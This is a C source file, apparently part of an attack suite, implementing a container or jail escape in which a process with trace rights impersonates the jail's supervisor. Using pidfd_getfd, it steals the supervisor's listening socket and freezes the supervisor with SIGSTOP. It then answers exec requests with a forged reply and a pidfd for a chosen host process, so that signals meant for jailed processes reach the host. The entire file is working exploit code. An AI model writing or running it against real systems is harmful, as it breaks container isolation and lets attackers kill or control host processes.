/* SPDX-License-Identifier: BSD-2-Clause
 *
 * Answers in the stead of a jail's keeper. Commands that enter come to the socket on which the keeper listens; a member
 * that may trace takes it, stops the keeper, and names a process of the host as the one it started: signals meant for a
 * jail's process would go there.
 */
#include "attack.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int take_listener(int keeper)
{
	for (int number = 3; number < 64; number++) {
		int listens = 0;
		socklen_t length = sizeof listens;
		int fd = (int)syscall(SYS_pidfd_getfd, keeper, number, 0);
		if (fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listens, &length) == 0 && listens)
			return fd;
		close(fd);
	}
	return -1;
}

/* Sends a text, with a descriptor unless it is -1. */
static void say(int to, const char *words, int descriptor)
{
	union {
		struct cmsghdr align;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { 0 };
	struct iovec text = { (void *)words, strlen(words) };
	struct msghdr message = { .msg_iov = &text, .msg_iovlen = 1 };
	if (descriptor >= 0) {
		message.msg_control = &control;
		message.msg_controllen = sizeof control;
		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof descriptor);
		memcpy(CMSG_DATA(header), &descriptor, sizeof descriptor);
	}
	sendmsg(to, &message, MSG_NOSIGNAL);
}

int impersonate_keeper(int pid, const char *claim, int victim)
{
	char answer[128], request[4096];
	int keeper = (int)syscall(SYS_pidfd_open, pid, 0);
	int listener = take_listener(keeper);
	if (listener < 0 || kill(pid, SIGSTOP) < 0) {
		perror("impersonate");
		return 1;
	}
	int descriptor = -1;
	if (!strcmp(claim, "own"))
		descriptor = (int)syscall(SYS_pidfd_open, getpid(), 0);
	if (!strcmp(claim, "host"))
		descriptor = (int)syscall(SYS_pidfd_open, victim, 0);
	puts("ready");
	fflush(stdout);
	snprintf(answer, sizeof answer, "{\"version\":1,\"message\":{\"started\":{\"pid\":%d}}}", victim);
	for (;;) {
		int caller = accept(listener, NULL, NULL);
		if (caller < 0) {
			usleep(1000); /* the listener does not block */
			continue;
		}
		say(caller, "{\"version\":1,\"message\":\"ready\"}", -1);
		if (recv(caller, request, sizeof request, 0) > 0)
			say(caller, answer, descriptor);
		/* Left open: the caller must not learn from the end of it. */
	}
}
